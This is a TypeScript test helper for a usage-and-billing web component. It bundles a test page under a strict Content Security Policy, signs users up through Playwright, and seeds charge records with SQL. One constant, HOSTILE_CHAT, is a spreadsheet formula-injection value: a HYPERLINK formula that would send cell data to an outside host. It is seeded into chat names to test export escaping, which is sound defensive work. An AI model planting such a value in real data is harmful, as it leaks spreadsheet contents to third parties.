/**
 * A page with `<farebox-usage>` and nothing else, under a strict Content Security Policy, in front of
 * a stack; and charges of many days, written as the ledger would have. Chart.js is in a chunk of its
 * own there, as in every build.
 */
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Page } from "playwright-core";
import { contentSecurityPolicy } from "../../../web/build_policy.ts";
import type { Sql } from "../../support/connect.ts";

export interface UsageSite {
  readonly url: string;
  /** Paths of the scripts that were asked for, in their order. */
  readonly scripts: readonly string[];
  close(): Promise<void>;
}

const ROOT = fileURLToPath(new URL("../../..", import.meta.url));
const ENTRY = `
import { defineFareboxUsage } from "${ROOT}/web/elements/usage.ts";
import { provideFarebox } from "${ROOT}/web/elements/registry.ts";
import { createFarebox } from "${ROOT}/web/client/mod.ts";
import { createClient } from "@supabase/supabase-js";
Object.assign(globalThis, { web: { defineFareboxUsage, provideFarebox, createFarebox, createClient } });
defineFareboxUsage();
`;
const STYLE = `
:root { color-scheme: light dark; background: light-dark(#fbfaf8, #171716); }
[data-theme="light"] { color-scheme: light; }
[data-theme="dark"] { color-scheme: dark; }
body { margin: 0; font-family: system-ui; color: light-dark(#181b22, #edeff3); }
main { max-width: 68rem; margin: 0 auto; padding: 1.5rem 1rem; }
`;
const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Usage</title>
<meta name="viewport" content="width=device-width"><link rel="icon" href="data:,">
<link rel="stylesheet" href="/usage.css"><script type="module" src="/entry.js"></script></head>
<body><main><h1>Usage</h1></main></body></html>`;

/** @param stack what is asked for beside the page's own files. */
export async function serveUsage(stack: { readonly url: string }): Promise<UsageSite> {
  const folder = await Deno.makeTempDir({ prefix: "farebox-usage-" });
  const entry = join(folder, "entry.ts");
  await Deno.writeTextFile(entry, ENTRY);
  const { success, stderr } = await new Deno.Command(Deno.execPath(), {
    args: [
      "bundle",
      "--quiet",
      "--config",
      "web/deno.json",
      "--platform=browser",
      "--code-splitting",
      "--minify",
      "--outdir",
      join(folder, "out"),
      entry,
    ],
    cwd: ROOT,
  }).output();
  if (!success) throw new Error(`Cannot bundle: ${new TextDecoder().decode(stderr)}`);
  const scripts: string[] = [];
  const answer = (type: string, body: string | Uint8Array<ArrayBuffer>) =>
    new Response(body, {
      headers: { "content-type": type, "content-security-policy": contentSecurityPolicy(null) },
    });
  const options = { port: 0, hostname: "127.0.0.1", onListen() {} };
  const server = Deno.serve(options, async (request) => {
    const { pathname, search } = new URL(request.url);
    if (pathname === "/") return answer("text/html", PAGE);
    if (pathname === "/usage.css") return answer("text/css", STYLE);
    if (/^\/[\w-]+\.js$/.test(pathname)) {
      scripts.push(pathname);
      return answer("text/javascript", await Deno.readFile(join(folder, "out", pathname)));
    }
    return await fetch(new Request(stack.url + pathname + search, request));
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    scripts,
    async close() {
      await server.shutdown();
      await Deno.remove(folder, { recursive: true });
    },
  };
}

/** Signs somebody new up in the page. @returns the user's id. */
export async function signUpInPage(page: Page, site: UsageSite, key: string): Promise<string> {
  await page.goto(site.url);
  await page.waitForFunction("globalThis.web !== undefined");
  return await page.evaluate<string>(`(async () => {
    globalThis.supabase = web.createClient(location.origin, ${JSON.stringify(key)});
    globalThis.farebox = web.createFarebox({
      supabase, url: location.origin, publishableKey: ${JSON.stringify(key)}, realtime: false,
    });
    const email = crypto.randomUUID() + "@example.com";
    const { data, error } = await supabase.auth.signUp({ email, password: crypto.randomUUID() });
    if (error) throw error;
    return data.user.id;
  })()`);
}

/** Puts the element into the page, with the page's client. */
export async function showUsage(page: Page, attributes = `days="30"`): Promise<void> {
  await page.evaluate(`(() => {
    web.provideFarebox(globalThis.farebox);
    const usage = document.createElement("farebox-usage");
    for (const [, name, value] of ${JSON.stringify(attributes)}.matchAll(/([\\w-]+)="([^"]*)"/g)) {
      usage.setAttribute(name, value);
    }
    document.querySelector("main").append(usage);
  })()`);
}

/** Until the sums and the first requests are there. */
export async function untilReady(page: Page): Promise<void> {
  await page.locator('farebox-usage[state="ready"]').waitFor();
  await page.locator("farebox-usage .bones").first().waitFor({ state: "hidden" });
}

/** A chat as somebody may name it who thinks of the spreadsheet that it ends in. */
export const HOSTILE_CHAT = `=HYPERLINK("https://example.com/?"&A1,"x"),'+1\u2028Zoë`;

/**
 * Charges of `days` days until now, a few a day, of up to `models` models; one day of each week
 * without any. Among them estimated and uncollected ones, a correction, and hostile chats.
 */
export async function writeCharges(
  sql: Sql,
  userId: string,
  { days, aDay, models }: { readonly days: number; readonly aDay: number; readonly models: number },
): Promise<void> {
  await sql`
    with priced as (
      select m.*, row_number() over (order by m.provider_id = 'openai' desc, m.provider_id, m.model_id) as rank
      from public.model_pricing m
    ),
    used as (
      select
        d, n, p.*,
        100 + (d * 37 + n * 613) % 4000 as input, 20 + (d * 91 + n * 277) % 1500 as output
      from generate_series(0, ${days - 1}::int) d
      cross join generate_series(1, ${aDay}::int) n
      join priced p on p.rank = 1 + (d * 5 + n * n) % ${models}::int
      where d % 7 <> 3
    ),
    costs as (
      select *, round((input * input_per_1k + output * output_per_1k) / 1000, 10) as cost from used
    )
    insert into public.usage_records (
      request_id, user_id, chat_id, provider_id, model_id, price_version, input_tokens,
      output_tokens, cost, collected, uncollected, basis, finish, created_at
    )
    select
      gen_random_uuid(), ${userId},
      case when n % 5 = 0 then ${HOSTILE_CHAT} when n % 5 = 1 then null else 'chat-' || d end,
      provider_id, model_id, price_version, input, output, cost,
      case when (d + n) % 11 = 0 then 0 else cost end, case when (d + n) % 11 = 0 then cost else 0 end,
      case when n % 4 = 0 then 'estimated' else 'reported' end, 'stop',
      now() - make_interval(days => d) - make_interval(secs => n * 0.137)
    from costs`;
  await sql`
    insert into public.usage_records
    select (jsonb_populate_record(u, jsonb_build_object(
      'sequence', 1, 'input_tokens', 0, 'output_tokens', -3, 'cost', '-0.0000300000', 'collected', 0,
      'uncollected', '-0.0000300000', 'created_at', u.created_at + interval '1 millisecond'
    ))).*
    from public.usage_records u where u.user_id = ${userId} order by created_at desc limit 1`;
}
